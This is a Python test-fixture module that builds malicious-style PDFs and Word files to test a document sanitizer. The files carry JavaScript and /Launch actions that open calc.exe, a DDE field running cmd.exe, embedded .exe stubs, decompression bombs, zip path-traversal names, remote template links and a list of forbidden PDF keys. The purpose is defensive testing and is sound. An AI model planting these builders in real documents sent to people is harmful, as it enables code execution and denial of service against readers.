"""Hostile documents, built for real: PDFs with actions, attachments, forms and bombs; DOCX files that lie.

Each builder returns bytes a real tool wrote (pypdf, zipfile) or a hand-made PDF whose cross-reference
table is exact, so a reader sees what an attacker's file would show it.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject,
)

from tests.factories import make_docx, make_pdf

MB = 1024 * 1024


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    action.update({_name(f"/{k}"): v for k, v in entries.items()})
    return action


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer(title: str = "Hostile certificate", pages: int = 1) -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(make_pdf(title, pages=pages)))


def _annotate(writer: PdfWriter, annotation: DictionaryObject, page: int = 0) -> None:
    annotation.update({_name("/Type"): _name("/Annot"),
                       _name("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 250, 100)])})
    if "/Subtype" not in annotation:
        annotation[_name("/Subtype")] = _name("/Link")
    target = writer.pages[page]
    annotations = target.get("/Annots")
    if annotations is None:
        target[_name("/Annots")] = ArrayObject()
    target["/Annots"].get_object().append(writer._add_object(annotation))


def javascript_behind_next_chain() -> bytes:
    """/OpenAction is a harmless GoTo whose /Next runs JavaScript."""
    writer = _writer()
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('next');")))
    first_page = writer.pages[0].indirect_reference
    writer._root_object[_name("/OpenAction")] = _action(
        "/GoTo", D=ArrayObject([first_page, _name("/Fit")]), Next=script)
    return _written(writer)


def annotation_additional_action() -> bytes:
    """A link whose /AA runs JavaScript when the pointer enters it."""
    writer = _writer()
    _annotate(writer, DictionaryObject({_name("/AA"): DictionaryObject(
        {_name("/E"): _action("/JavaScript", JS=TextStringObject("app.alert('enter');"))})}))
    return _written(writer)


def goto_embedded_link() -> bytes:
    """A link that opens a PDF embedded in another file."""
    writer = _writer()
    _annotate(writer, DictionaryObject({_name("/A"): _action(
        "/GoToE", NewWindow=NumberObject(1), T=DictionaryObject({_name("/R"): _name("/C"),
                                                                 _name("/N"): TextStringObject("payload")}))}))
    return _written(writer)


def launch_inside_chain() -> bytes:
    """A web link whose /Next array ends in /Launch."""
    writer = _writer()
    launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe"))
    _annotate(writer, DictionaryObject({_name("/A"): _action(
        "/URI", URI=TextStringObject("https://example.org/"), Next=ArrayObject([writer._add_object(launch)]))}))
    return _written(writer)


def file_attachment_annotation() -> bytes:
    """A paper-clip annotation naming an attached file."""
    writer = _writer()
    _annotate(writer, DictionaryObject({
        _name("/Subtype"): _name("/FileAttachment"),
        _name("/FS"): DictionaryObject({_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("a.exe")}),
        _name("/Contents"): TextStringObject("invoice")}))
    return _written(writer)


def embedded_files_name_tree() -> bytes:
    writer = _writer()
    writer.add_attachment("readme.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def xfa_form() -> bytes:
    writer = _writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(xfa)})
    return _written(writer)


def javascript_name_tree() -> bytes:
    """Document-level JavaScript, run when the file opens."""
    writer = _writer()
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('document level');")))
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), script])})})
    return _written(writer)


def html_before_header() -> bytes:
    """An HTML page that is also a PDF: browsers sniffing it would run the script."""
    return b"<html><body><script>alert(document.cookie)</script></body></html>\n" + make_pdf("Polyglot")


# --- hand-made PDFs: exact control over the stored streams ------------------------------------------

def _deflate(chunk: bytes, repeat: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(chunk) for _ in range(repeat)) + packer.flush()


def raw_pdf(page_contents: list[bytes], *, size=(595, 842)) -> bytes:
    """A PDF whose page i draws the already Flate-compressed content stream page_contents[i]."""
    count = len(page_contents)
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode()]
    for i, content in enumerate(page_contents):
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size[0]} {size[1]}] /Resources << >> "
                       f"/Contents {4 + 2 * i} 0 R >>".encode())
        objects.append(f"<< /Length {len(content)} /Filter /FlateDecode >>\nstream\n".encode() + content
                       + b"\nendstream")
    return _assemble(objects)


def decompression_bomb(expanded: int = 200 * MB) -> bytes:
    """One page whose content stream is `expanded` bytes of zeros: a few hundred kilobytes stored."""
    return raw_pdf([_deflate(b"\0" * MB, expanded // MB)])


def compressible_pages(pages: int = 20, expanded_per_page: int = 4 * MB) -> bytes:
    """A legitimate-looking PDF whose pages carry large but very compressible drawing streams."""
    operators = b"q 1 0 0 1 0 0 cm Q\n"
    repeat = expanded_per_page // len(operators)
    header = b"BT /F1 1 Tf ET\n"  # a text object with no font use: harmless, keeps the stream non-trivial
    return raw_pdf([_deflate(header + operators * 1024, repeat // 1024) for _ in range(pages)])


# --- DOCX --------------------------------------------------------------------------------------------

def docx_with_lying_size(real: int = 60 * MB, declared: int = 1000) -> bytes:
    """word/document.xml inflates to `real` bytes while the zip's directory says `declared`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                         '.org/package/2006/content-types"/>')
        archive.writestr("word/document.xml", b"<w:document/>" + b" " * (real - 13))
    data = bytearray(buffer.getvalue())
    name = b"word/document.xml"
    local = 0
    while True:
        local = data.index(b"PK\x03\x04", local)
        length = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30:local + 30 + length] == name:
            struct.pack_into("<I", data, local + 22, declared)
            break
        local += 4
    central = 0
    while True:
        central = data.index(b"PK\x01\x02", central)
        length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46:central + 46 + length] == name:
            struct.pack_into("<I", data, central + 24, declared)
            break
        central += 4
    return bytes(data)


def _docx_with_relationships(relationships: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    source = zipfile.ZipFile(io.BytesIO(make_docx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        archive.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                               f'openxmlformats.org/package/2006/relationships">{relationships}</Relationships>')
    return buffer.getvalue()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with_remote_template(url: str = "http://127.0.0.1:9/template.dotm") -> bytes:
    return _docx_with_relationships(f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{url}" '
                                    'TargetMode="External"/>')


def docx_with_remote_object(url: str = "http://127.0.0.1:9/payload.rtf") -> bytes:
    return _docx_with_relationships(f'<Relationship Id="rId7" Type="{REL}/oleObject" Target="{url}" '
                                    'TargetMode="External"/>', part="word/_rels/document.xml.rels")


def docx_with_hyperlink(url: str = "https://example.org/portfolio") -> bytes:
    return _docx_with_relationships(f'<Relationship Id="rId3" Type="{REL}/hyperlink" Target="{url}" '
                                    'TargetMode="External"/>', part="word/_rels/document.xml.rels")


HOSTILE_PDFS = {
    "javascript_behind_next_chain": (javascript_behind_next_chain, "document_active_content"),
    "annotation_additional_action": (annotation_additional_action, "document_active_content"),
    "goto_embedded_link": (goto_embedded_link, "document_active_content"),
    "launch_inside_chain": (launch_inside_chain, "document_active_content"),
    "file_attachment_annotation": (file_attachment_annotation, "document_embedded_files"),
    "embedded_files_name_tree": (embedded_files_name_tree, "document_embedded_files"),
    "xfa_form": (xfa_form, "document_active_content"),
    "javascript_name_tree": (javascript_name_tree, "document_active_content"),
}


def limit_reaching_pdf() -> bytes:
    """A page dictionary holding an array past pypdf's element limit: reading it raises LimitReachedError."""
    return _with_page_entry(b"/Junk [" + b"0 " * 100_001 + b"]")


def _with_page_entry(entry: bytes) -> bytes:
    content = zlib.compress(b"q Q\n")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R "
               + entry + b" >>",
               f"<< /Length {len(content)} /Filter /FlateDecode >>\nstream\n".encode() + content + b"\nendstream"]
    return _assemble(objects)


def _assemble(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets))
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _appearance(writer: PdfWriter, text: str, width: float = 200, height: float = 30):
    font = writer._add_object(DictionaryObject({_name("/Type"): _name("/Font"), _name("/Subtype"): _name("/Type1"),
                                                _name("/BaseFont"): _name("/Helvetica")}))
    form = DecodedStreamObject()
    form.set_data(f"BT /Helv 12 Tf 4 10 Td ({text}) Tj ET".encode())
    form.update({_name("/Type"): _name("/XObject"), _name("/Subtype"): _name("/Form"),
                 _name("/BBox"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(width), FloatObject(height)]),
                 _name("/Resources"): DictionaryObject({_name("/Font"): DictionaryObject({_name("/Helv"): font})})})
    return writer._add_object(form)


def everything_hostile(filled_in: str = "Level B2 confirmed") -> bytes:
    """One PDF with every kind of active content at once, and a filled-in form field whose value a
    reader must still see: what the dossier gets if inspection ever misses something."""
    writer = _writer("Everything hostile", pages=2)
    js = lambda code: writer._add_object(_action("/JavaScript", JS=TextStringObject(code)))  # noqa: E731
    first_page = writer.pages[0].indirect_reference
    writer._root_object[_name("/OpenAction")] = _action(
        "/GoTo", D=ArrayObject([first_page, _name("/Fit")]), Next=js("app.alert('open');"))
    writer._root_object[_name("/AA")] = DictionaryObject({_name("/WC"): js("app.alert('close');")})
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    writer._root_object["/Names"][_name("/JavaScript")] = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), js("app.alert('names');")])})
    page = writer.pages[0]
    page[_name("/AA")] = DictionaryObject({_name("/O"): js("app.alert('page open');")})
    # a "harmless" resource entry that carries a script, to prove the final sweep as well
    page["/Resources"].get_object()[_name("/Properties")] = DictionaryObject(
        {_name("/MC0"): DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("x")})})
    widget = DictionaryObject({
        _name("/Subtype"): _name("/Widget"), _name("/FT"): _name("/Tx"), _name("/T"): TextStringObject("level"),
        _name("/V"): TextStringObject(filled_in), _name("/F"): NumberObject(4),
        _name("/AP"): DictionaryObject({_name("/N"): _appearance(writer, filled_in)}),
        _name("/AA"): DictionaryObject({_name("/K"): js("app.alert('keystroke');")}),
    })
    _annotate(writer, widget)
    widget_ref = page["/Annots"][-1]
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject([widget_ref]), _name("/XFA"): writer._add_object(xfa)})
    _annotate(writer, DictionaryObject({_name("/A"): _action(
        "/URI", URI=TextStringObject("https://example.org/"),
        Next=ArrayObject([writer._add_object(_action("/Launch", F=TextStringObject("calc.exe")))]))}))
    _annotate(writer, DictionaryObject({_name("/A"): _action("/GoToE", T=DictionaryObject(
        {_name("/R"): _name("/C"), _name("/N"): TextStringObject("payload")}))}))
    hidden = DecodedStreamObject()
    hidden.set_data(b"MZ\x90\x00 attached")
    attached = DictionaryObject({_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("a.exe"),
                                 _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(hidden)})})
    _annotate(writer, DictionaryObject({_name("/Subtype"): _name("/FileAttachment"), _name("/FS"): attached}),
              page=1)
    _annotate(writer, DictionaryObject({_name("/Subtype"): _name("/RichMedia")}), page=1)
    return _written(writer)


FORBIDDEN_NAMES = ("/JavaScript", "/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/AcroForm", "/XFA",
                   "/Launch", "/GoToE", "/FileAttachment", "/RichMedia", "/Annots", "/Widget")


def active_names(pdf: bytes) -> set[str]:
    """Every forbidden name anywhere in `pdf`, as a key or a value, in any object (reachable or not)."""
    from pypdf import PdfReader
    from pypdf.generic import IndirectObject

    reader = PdfReader(io.BytesIO(pdf))
    found: set[str] = set()
    stack: list = [reader.trailer]
    stack += [IndirectObject(number, generation, reader)
              for generation, table in reader.xref.items() for number in table]
    seen: set = set()
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if (item.idnum, item.generation) in seen:
                continue
            seen.add((item.idnum, item.generation))
            item = item.get_object()
        if isinstance(item, dict):
            found |= {k for k in dict.keys(item) if k in FORBIDDEN_NAMES}
            stack.extend(dict.values(item))
        elif isinstance(item, list):
            stack.extend(item)
        elif isinstance(item, NameObject) and item in FORBIDDEN_NAMES:
            found.add(str(item))
    # and as raw bytes, in case a writer hid something in a place the walk does not reach
    found |= {name for name in FORBIDDEN_NAMES if (name.encode() + b" ") in pdf or (name.encode() + b"/") in pdf
              or (name.encode() + b"\n") in pdf or (name.encode() + b"<") in pdf or (name.encode() + b"(") in pdf}
    return found


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_with_field(*code_pieces: str) -> bytes:
    """A Word document whose body holds one complex field, its code split over runs as Word itself does."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code_pieces)
    body = (f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs +
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Curriculum vitae</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')
    source = zipfile.ZipFile(io.BytesIO(make_docx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, body if info.filename == "word/document.xml" else source.read(info))
    return buffer.getvalue()


def docx_with_dde() -> bytes:
    return docx_with_field(" DD", "EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc.exe\" ")


def docx_with_remote_picture() -> bytes:
    return docx_with_field(' INCLUDEPICTURE \\d "http://127.0.0.1:9/beacon.png" ', "\\* MERGEFORMATINET ")


# --- archives judged before they are opened (issue 8, item 6) ----------------------------------------

def docx_with_member(name: str, body: bytes = b"payload") -> bytes:
    """A valid Word document plus one member named `name` (e.g. `../../etc/cron.d/x` or `/etc/passwd`)."""
    source = zipfile.ZipFile(io.BytesIO(make_docx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        member = zipfile.ZipInfo(name)  # kept as given, where write() would tidy it
        member.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(member, body)
    return buffer.getvalue()


def docx_with_many_members(count: int = 2100) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in zipfile.ZipFile(io.BytesIO(make_docx())).infolist():
            archive.writestr(info.filename, zipfile.ZipFile(io.BytesIO(make_docx())).read(info))
        for n in range(count):
            archive.writestr(f"word/media/empty{n}.xml", "")
    return buffer.getvalue()


def docx_too_large_unpacked(size: int = 51 * MB) -> bytes:
    """A few tens of kilobytes that unpack to more than the bound: honest sizes, just too much of them."""
    return docx_with_member("word/media/padding.bin", b"\0" * size)


# --- PDFs that make a reader loop, recurse or explode (the renderer's own bounds) -------------------------

def _catalog(*objects: bytes) -> bytes:
    return _assemble([b"<< /Type /Catalog /Pages 2 0 R >>", *objects])


def page_tree_cycle() -> bytes:
    """The page tree lists itself among its kids."""
    return _catalog(b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")


def page_tree_loop() -> bytes:
    """Two page-tree nodes, each the other's only kid: a reader that follows kids never reaches a page."""
    return _catalog(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")


def huge_page_count(pages: int = 30_000) -> bytes:
    """Tens of thousands of pages in a file of a few hundred kilobytes: every kid is the same page."""
    kids = b" ".join([b"3 0 R"] * pages)
    return _catalog(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")


def deep_nesting(depth: int = 5_000) -> bytes:
    """The page's resources lead through thousands of arrays, each an object holding the next: a reader or
    writer that follows them by recursion runs out of stack."""
    content = zlib.compress(b"q Q\n")
    chain = [f"[{number + 1} 0 R]".encode() for number in range(5, 5 + depth)] + [b"[]"]
    return _catalog(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /X 5 0 R >> >>",
                    f"<< /Length {len(content)} /Filter /FlateDecode >>\nstream\n".encode() + content + b"\nendstream",
                    *chain)


def truncated_pdf() -> bytes:
    pdf = make_pdf("Truncated")
    return pdf[:len(pdf) // 3]


def not_a_pdf_inside() -> bytes:
    return b"%PDF-1.7\n" + b"\x00garbage\xff" * 2000


UNREADABLE_PDFS = {
    "page_tree_cycle": page_tree_cycle,
    "page_tree_loop": page_tree_loop,
    "huge_page_count": huge_page_count,
    "deep_nesting": deep_nesting,
    "decompression_bomb": decompression_bomb,
    "truncated": truncated_pdf,
    "garbage_after_header": not_a_pdf_inside,
}
